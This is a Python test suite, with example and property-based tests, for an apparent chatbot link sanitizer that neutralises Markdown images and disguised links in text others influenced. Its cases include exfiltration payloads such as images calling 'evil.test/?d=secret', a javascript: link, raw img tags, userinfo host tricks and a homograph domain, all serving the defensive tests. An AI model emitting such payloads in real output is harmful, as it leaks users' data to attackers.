"""What others had a hand in loads nothing and hides no host, however it is written."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.safety.links import shown, urls_in

GOOD = "https://good.example/a?x=1"
KNOWN = urls_in(f"I like {GOOD} and www.shop.example/b.")


def placeholder(host: str) -> str:
    return f"(image on {host}, not loaded)" if host else "(image, not loaded)"


def seen(text: str) -> str:
    return shown(text, KNOWN, placeholder)


@pytest.mark.parametrize(
    ("written", "told"),
    [
        ("All is well.", "All is well."),
        ("2 < 3 and report.pdf, and/or e.g. that", "2 < 3 and report.pdf, and/or e.g. that"),
        ("![the plan](https://evil.test/?d=secret)", "the plan (image on evil.test, not loaded)"),
        (f"![the plan]({GOOD})", "the plan (image on good.example, not loaded)"),
        ("![x][1]\n\n[1]: https://evil.test/a", "x (image, not loaded)\n\n1: `https://evil.test/a`"),
        ("<img src='https://evil.test/a'>", "‹img src='`https://evil.test/a`'>"),
        ("[bank.example](https://evil.test/a)", "bank.example (`https://evil.test/a`)"),
        ("[click](https://bank.example@evil.test/)", "click (`evil.test`)"),
        ("[click](javascript:alert(1))", "click"),
        ("[click](//evil.test/a)", "click (`evil.test`)"),
        ("<https://evil.test/x>", "`https://evil.test/x`"),
        ("Look: https://evil.test/?d=secret.", "Look: `https://evil.test/?d=secret`."),
        ("evil.test/?d=secret and www.evil.test", "`evil.test/?d=secret` and `www.evil.test`"),
        ("http://аррӏе.com/a", "`xn--80ak6aa92e.com`"),
        (f"Look: {GOOD}.", f"Look: {GOOD}."),
        (f"[my shop]({GOOD})", f"[my shop (good.example)]({GOOD})"),
        (f"[good.example]({GOOD})", f"[good.example]({GOOD})"),
        (f"[bank.example]({GOOD})", f"[bank.example (good.example)]({GOOD})"),
        (f"{GOOD}&d=secret", f"`{GOOD}&d=secret`"),
        (f"```\n![x]({GOOD})\n```\n![x]({GOOD})", f"```\n![x]({GOOD})\n```\nx {placeholder('good.example')}"),
        ("text\n    ```\n![x](https://evil.test)", "text\n    '''\nx (image on evil.test, not loaded)"),
        ("[![a](https://evil.test/i)](https://evil.test/l)", "a (image on evil.test, not loaded) (`https://evil.test/l`)"),
    ],
)  # fmt: skip
def test_what_is_told(written: str, told: str) -> None:
    assert seen(written) == told


MARKS = (
    "![ [ ]( ](< >) ) ( ][1] [1]: ` ``` <img src= <a href=' </a> < > ! \\ \\` - > 1. \" ' * [^ | &excl; &#33;"
)
SPACES = (" ", "    ", "\n", "\n\n", "\t", "\r\n", "\0", "\u2028", "```\n", "~~~\n", "> ", "- ")
WORDS = ("a", "the plan", "bank.example", "é")
BAD = (
    "https://evil.test/?d=secret http://evil.test //evil.test/x evil.test/x?d=1 www.evil.test "
    "HTTPS://Evil.Test/A https://a@evil.test/ javascript:x data:image/png;base64,AA ftp://evil.test "
    "https://good.example/a?x=1&d=secret"
)
PIECES = st.sampled_from([*MARKS.split(), *SPACES, *WORDS, *BAD.split(), GOOD, "www.shop.example/b"])
WRITTEN = st.lists(PIECES, max_size=14).map("".join)

_BARE = re.compile(r"(?:[a-z][a-z0-9+.-]*:)//[^\s`]+|//[\w-]+\.[^\s`]+|www\.[^\s`]+", re.IGNORECASE)


def loads_or_links(text: str) -> list[str]:
    """Return what a Markdown page would load, or open at a click or for a preview, with HTML let through."""
    found: list[str] = []
    for block in MarkdownIt("commonmark", {"html": True}).parse(text):
        for token in (block, *(block.children or ())):
            if token.type == "image":
                found.append(f"image {token.attrGet('src')}")
            elif token.type == "link_open":
                found.append(str(token.attrGet("href")))
            elif token.type.startswith("html") and re.search(r"=|//", token.content):
                found.append(token.content)
            elif token.type == "text":
                found += _BARE.findall(token.content)
    return found


@settings(max_examples=600, deadline=None)
@given(WRITTEN)
def test_no_way_of_writing_it_loads_or_links_what_is_unknown(written: str) -> None:
    for target in loads_or_links(seen(written)):
        assert "evil" not in target.casefold(), (written, seen(written))
        assert "secret" not in target, (written, seen(written))
        assert not target.startswith("image"), (written, seen(written))


@settings(max_examples=300, deadline=None)
@given(WRITTEN)
def test_once_is_as_good_as_twice(written: str) -> None:
    once = seen(written)
    assert loads_or_links(seen(once)) == loads_or_links(once)


@settings(max_examples=150, deadline=None)
@given(WRITTEN)
def test_what_is_written_so_far_shows_no_more_than_the_whole(written: str) -> None:
    """Drafts are prefixes."""
    for end in range(0, len(written), 7):
        assert not any("evil" in target.casefold() for target in loads_or_links(seen(written[:end])))


@given(st.text(alphabet="abc .,;:!\n-*_äß5", max_size=80))
def test_plain_words_stay_as_they_are(written: str) -> None:
    assert seen(written) == written
